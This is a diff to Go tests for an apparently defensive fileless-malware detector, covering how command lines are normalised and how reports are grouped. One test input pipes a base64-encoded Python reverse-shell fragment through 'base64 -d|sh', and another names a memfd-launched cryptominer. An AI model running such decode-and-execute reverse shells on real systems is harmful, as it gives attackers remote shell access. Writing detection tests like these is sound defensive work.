@@ -11,6 +11,10 @@ import (
 	"github.com/filelessd/filelessd/pkg/report"
 )
 
+// payload is code in base64, as one finds it on command lines: its words have any length.
+const payload = "aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0+Yy5jb25uZWN0KChoLDQ0NDQpKTtb/" +
+	"b3MuZHVwMihzLmZpbGVubygpLGYpZm9yIGYg+aW4oMCwxLDIpXTtwdHkuc3Bhd24oJy9iaW4vc2gnKSAj=="
+
 func TestNormalise(t *testing.T) {
 	tests := map[string]string{
 		"":                                     "",
@@ -38,6 +42,10 @@ func TestNormalise(t *testing.T) {
 		"kworker/0:1-events":                            "kworker/#:#-events",
 		"\xff\x00é 12":                                  "\xff\x00é #",
 		"/dev/shm/Ab12Cd":                               "/dev/shm/#",
+		"sh -c 'echo " + payload + "|base64 -d|sh'":     "sh -c 'echo " + payload + "|base# -d|sh'",
+		"x -p " + strings.Repeat("7f454c46", 20):        "x -p " + strings.Repeat("7f454c46", 20),
+		"x /v/" + strings.Repeat("a1", 32) + "/fs/" + strings.Repeat("b2", 32) + "/merged/usr/lib/locale/share/x86/lib": "x /v/#/fs/#/merged/usr/lib/locale/share/x#/lib",
+		"x " + strings.Repeat("f0", 64): "x #",
 	}
 	for in, want := range tests {
 		if got := normalise(in); got != want {
@@ -151,6 +159,26 @@ func TestKeySplitsByTheAttackOnly(t *testing.T) {
 	image.digest, other.digest = "sha256:aa", "sha256:aa"
 	if KeyOf(image.report()).Group != KeyOf(other.report()).Group {
 		t.Error("the same digest under another tag is another group")
+	}
+}
+
+// TestKeyOfADescriptor: the programs that one parent starts by fexecve have the number of a descriptor
+// for a name, and are told apart by the names of their files.
+func TestKeyOfADescriptor(t *testing.T) {
+	key := func(cmdline, exepath string) string {
+		r := hostAttack().report()
+		r.Event.SetField("proc.cmdline", cmdline)
+		r.Event.SetField("proc.exepath", exepath)
+		return KeyOf(r).Group
+	}
+	if key("3", "memfd:nginx") == key("3", "memfd:xmrig") {
+		t.Error("two programs in one group")
+	}
+	if key("3 -o a", "memfd:run-17") != key("27 -o a", "memfd:run-18") {
+		t.Error("one program in two groups")
+	}
+	if key("x -o a", "memfd:a") != key("x -o a", "memfd:b") || key("", "memfd:a") == key("", "memfd:b") {
+		t.Error("a command line that names its program is not enough")
 	}
 }
 
